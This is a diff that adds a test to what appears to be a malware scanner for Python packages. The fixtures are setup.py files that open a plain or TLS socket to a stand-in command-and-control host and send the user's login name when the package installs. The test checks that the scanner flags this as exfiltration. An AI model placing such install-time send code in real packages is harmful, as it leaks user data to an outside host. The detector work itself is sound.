@@ -55,3 +55,16 @@ test('a download run from a function the import-time code calls is download-and-
   });
   assert.equal(score.verdict, 'malicious', score.reason);
 });
+
+test('sends on a TLS-wrapped socket or a create_connection() socket are socket sends to the connected host', async () => {
+  for (const open of [
+    "ctx = ssl.create_default_context()\ns = ctx.wrap_socket(socket.socket(), server_hostname='c2.example.invalid')\ns.connect(('c2.example.invalid', 443))",
+    "s = socket.create_connection(('c2.example.invalid', 443))",
+  ]) {
+    const { out, score } = await scan({
+      'pkg-1/setup.py': `import socket, ssl, getpass\n${open}\ns.send(getpass.getuser().encode())\nfrom setuptools import setup\nsetup(name='x')\n`,
+    });
+    assert.equal(score.verdict, 'malicious', `${open}: ${score.reason}`);
+    assert.ok(out.findings.some((f) => f.ruleId === 'py/host-data-exfiltration' && f.message.includes('c2.example.invalid')));
+  }
+});
